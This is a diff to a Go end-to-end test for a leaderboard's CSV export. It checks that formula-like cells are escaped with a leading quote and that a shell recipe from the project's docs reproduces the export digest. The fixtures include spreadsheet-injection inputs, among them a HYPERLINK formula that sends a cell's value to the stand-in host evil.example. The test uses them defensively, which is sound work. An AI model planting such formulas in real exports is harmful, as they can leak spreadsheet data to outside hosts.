@@ -3,6 +3,7 @@ package e2e_test
 import (
 	"context"
 	"crypto/sha256"
+	"encoding/csv"
 	"encoding/hex"
 	"encoding/json"
 	"fmt"
@@ -11,6 +12,7 @@ import (
 	"net/http/httptest"
 	"os"
 	"os/exec"
+	"path/filepath"
 	"strings"
 	"sync"
 	"testing"
@@ -371,13 +373,18 @@ func TestLifecycle_InterruptedCloseIsResumed(t *testing.T) {
 }
 
 // The export of a closed month streams its standings as CSV, equal to the
-// leaderboard's pages and hashing to the digest; an open month answers 409,
-// no token 401, another role 403.
+// leaderboard's pages, with a quote in front of ids and names a spreadsheet
+// would run as formulas; docs/api.md's recipe hashes it to the digest. An
+// open month answers 409, no token 401, another role 403.
 func TestLifecycle_ExportCSV(t *testing.T) {
 	s := startServer(t)
 	c := currentMonth(t)
 	for i := range 25 {
 		s.submit(t, named(ev(fmt.Sprint("e", i), fmt.Sprint("p", i), "SET", (i*37)%11, c.at(i%4)), fmt.Sprint("P, \"", i)))
+	}
+	hostile := []string{`=HYPERLINK("http://evil.example/?x="&A1,"click")`, `+cmd`, `@SUM(1+1)`, `-1`, `'=quoted`}
+	for i, text := range hostile {
+		s.submit(t, named(ev(fmt.Sprint("h", i), text, "SET", 20+i, c.at(i)), text))
 	}
 	path := "/admin/months/" + c.month + "/standings.csv"
 	get := func(token string) (int, http.Header, string) {
@@ -407,25 +414,67 @@ func TestLifecycle_ExportCSV(t *testing.T) {
 	if status != http.StatusOK || !strings.HasPrefix(header.Get("Content-Type"), "text/csv") {
 		t.Fatalf("export: %d %v", status, header)
 	}
-	lines := strings.Split(strings.TrimSuffix(body, "\n"), "\n")
-	if lines[0] != "rank,player_id,player_name,score,reached_at,percentile" || len(lines) != 26 {
-		t.Fatalf("export:\n%s", body)
+	records, err := csv.NewReader(strings.NewReader(body)).ReadAll()
+	if err != nil || strings.Join(records[0], ",") != "rank,player_id,player_name,score,reached_at,percentile" || len(records) != 31 {
+		t.Fatalf("export (%v):\n%s", err, body)
+	}
+	// What a spreadsheet shows: an added quote makes a cell text.
+	cell := func(text string) string {
+		if strings.ContainsAny(text[:1], "=+-@'") {
+			return "'" + text
+		}
+		return text
 	}
 	page := s.leaderboard(t, c.month, 100, nil)
 	h := sha256.New()
 	for i, e := range page.Edges {
-		fields := strings.SplitN(lines[i+1], ",", 3)
-		if fields[0] != fmt.Sprint(e.Node.Rank) || fields[1] != e.Node.Player.ID {
-			t.Errorf("line %d %q, page row %+v", i+1, lines[i+1], e.Node)
+		r := records[i+1]
+		if r[0] != fmt.Sprint(e.Node.Rank) || r[1] != cell(e.Node.Player.ID) || r[2] != cell(*e.Node.Player.Name) || r[3] != fmt.Sprint(e.Node.Score) {
+			t.Errorf("line %d %q, page row %+v", i+1, r, e.Node)
 		}
 		fmt.Fprintf(h, "%d,%s,%d\n", e.Node.Rank, e.Node.Player.ID, e.Node.Score)
 	}
 	if got := hex.EncodeToString(h.Sum(nil)); info.Digest == nil || got != *info.Digest {
 		t.Errorf("pages hash to %s, digest %v", got, info.Digest)
 	}
+	if got := runDigestRecipe(t, body); info.Digest == nil || got != *info.Digest {
+		t.Errorf("docs/api.md's recipe hashes the export to %q, digest %v", got, info.Digest)
+	}
 	if status, _, _ := get(adminToken + "x"); status != http.StatusUnauthorized {
 		t.Errorf("export with a wrong token: %d", status)
 	}
+}
+
+// runDigestRecipe runs the shell recipe of docs/api.md's Export section, as
+// a reader would copy it, on export and returns the digest it prints.
+func runDigestRecipe(t *testing.T, export string) string {
+	t.Helper()
+	doc, err := os.ReadFile("../docs/api.md")
+	if err != nil {
+		t.Fatal(err)
+	}
+	_, block, ok := strings.Cut(string(doc), "<!-- digest-recipe")
+	block, _, ok2 := strings.Cut(block, "<!-- /digest-recipe -->")
+	_, recipe, ok3 := strings.Cut(block, "```sh\n")
+	recipe, _, ok4 := strings.Cut(recipe, "```")
+	if !ok || !ok2 || !ok3 || !ok4 {
+		t.Fatal("docs/api.md has no sh block between <!-- digest-recipe --> markers")
+	}
+	// The recipe reads the export from the file the documentation names.
+	dir := t.TempDir()
+	if err := os.WriteFile(filepath.Join(dir, "2026-10.csv"), []byte(export), 0o600); err != nil {
+		t.Fatal(err)
+	}
+	cmd := exec.Command("sh", "-c", recipe)
+	cmd.Dir = dir
+	var stderr strings.Builder
+	cmd.Stderr = &stderr
+	out, err := cmd.Output()
+	if err != nil || stderr.Len() > 0 {
+		t.Fatalf("recipe: %v %s\n%s", err, stderr.String(), recipe)
+	}
+	digest, _, _ := strings.Cut(string(out), " ")
+	return digest
 }
 
 // correct runs correctScore as the admin.
